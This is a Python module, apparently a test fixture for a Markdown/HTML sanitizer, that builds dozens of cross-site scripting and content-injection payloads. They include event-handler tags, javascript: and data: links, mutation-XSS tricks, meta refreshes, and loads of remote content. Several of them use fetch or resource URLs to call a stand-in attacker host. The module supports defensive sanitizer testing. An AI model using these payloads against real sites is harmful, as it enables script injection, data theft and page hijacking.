"""Markdown and HTML that tries to run a script, to load something, or to leave its place."""

from collections.abc import Iterator
from itertools import islice, product

SCRIPTS = ("ran('{n}')", "fetch('https://evil.example/{n}')", "parent.ran('{n}')")
"""What an attack would do; the page that is attacked has no `ran` of its own."""

_HTML = (
    "<script>{do}</script>",
    "<ScRiPt src=https://evil.example/{n}.js></sCrIpT>",
    '<img src=x onerror="{do}">',
    "<img src=https://evil.example/{n}.png>",
    '<svg onload="{do}"><a xlink:href="javascript:{do}"><text>x</text></a></svg>',
    '<svg><animate onbegin="{do}" attributeName=x dur=1s></svg>',
    '<svg><style><img src=x onerror="{do}"></style></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={do}&gt;">',
    '<iframe src="javascript:{do}"></iframe>',
    '<iframe srcdoc="<script>{do}</script>"></iframe>',
    '<object data="data:text/html,<script>{do}</script>"></object>',
    "<embed src=https://evil.example/{n}>",
    "<link rel=stylesheet href=https://evil.example/{n}.css>",
    "<style>@import 'https://evil.example/{n}.css'; body {{ background: url(https://evil.example/{n}) }}</style>",
    '<p style="background: url(https://evil.example/{n})" onclick="{do}" onfocus="{do}" autofocus tabindex=0>x</p>',
    "<div style=position:fixed;inset:0>over the page</div>",
    "<base href=https://evil.example/>",
    '<meta http-equiv=refresh content="0;url=https://evil.example/{n}">',
    '<form action=https://evil.example/{n}><input name=q autofocus onfocus="{do}"><button>x</button></form>',
    '<details open ontoggle="{do}"><summary>x</summary>y</details>',
    '<video autoplay src=https://evil.example/{n}.mp4 onerror="{do}"><source onerror="{do}"></video>',
    '<audio src=https://evil.example/{n}.mp3 onerror="{do}"></audio>',
    '<body onload="{do}" onpageshow="{do}">',
    '<marquee onstart="{do}">x</marquee>',
    "<template><script>{do}</script></template>",
    '<noscript><p title="</noscript><img src=x onerror={do}>"></noscript>',
    '<a href="javascript:{do}">x</a>',
    '<a href="&#106;avascript&colon;{do}">x</a>',
    '<a href=" java\tscript:{do}" target=_top ping=https://evil.example/{n}>x</a>',
    "<a id=messages name=cookie><b id=log>x</b></a>",
    "<input type=image src=https://evil.example/{n}.png>",
    "<table background=https://evil.example/{n}.png><td>x</table>",
    '<x onclick="{do}" contenteditable onfocus="{do}" autofocus>x</x>',
    "<img srcset=https://evil.example/{n}.png loading=eager>",
    "<picture><source srcset=https://evil.example/{n}.png><img></picture>",
    '<dialog open><button onclick="{do}">x</button></dialog>',
)
_MARKDOWN = (
    "![x](https://evil.example/{n}.png)",
    "![x](javascript:{do})",
    "[x](javascript:{do})",
    "[x](JaVaScRiPt:{do})",
    "[x](data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==)",
    "[x](vbscript:{do})",
    '[x](<javascript:{do}> "onclick={do}")',
    "[x][1]\n\n[1]: javascript:{do}",
    "<javascript:{do}>",
    '![x" onerror="{do}](https://evil.example/{n}.png)',
    '[x" onclick="{do}](https://shop.example/{n})',
    '```" onclick="{do}\n<script>{do}</script>\n```',
    '`<img src=x onerror="{do}">`',
    '| a |\n|---|\n| <img src=https://evil.example/{n}.png onerror="{do}"> |',
    '# <img src=x onerror="{do}">',
    "> <script>{do}</script>",
    "- <iframe src=https://evil.example/{n}></iframe>",
    "[![x](https://evil.example/{n}.png)](javascript:{do})",
    "<!-- --><script>{do}</script><!-- -->",
    "&lt;script&gt;{do}&lt;/script&gt;",
    'www.evil.example/{n}"onmouseover="{do}',
    "[x](https://shop.example/{n}){{onclick={do}}}",
)
_AROUND = ("{}", "Before.\n\n{}\n\nAfter.", "1. One\n\n   {}\n", "**bold {} bold**")


def hostile_texts(count: int) -> list[str]:
    """Return this many texts, each different, of every kind."""
    made = (
        around.replace("{}", attack.format(n=number, do=script.format(n=number)))
        for number, (around, script, attack) in enumerate(_all())
    )
    return list(islice(dict.fromkeys(made), count))


def _all() -> Iterator[tuple[str, str, str]]:
    for around, script in product(_AROUND, SCRIPTS):
        yield from ((around, script, attack) for attack in (*_HTML, *_MARKDOWN))
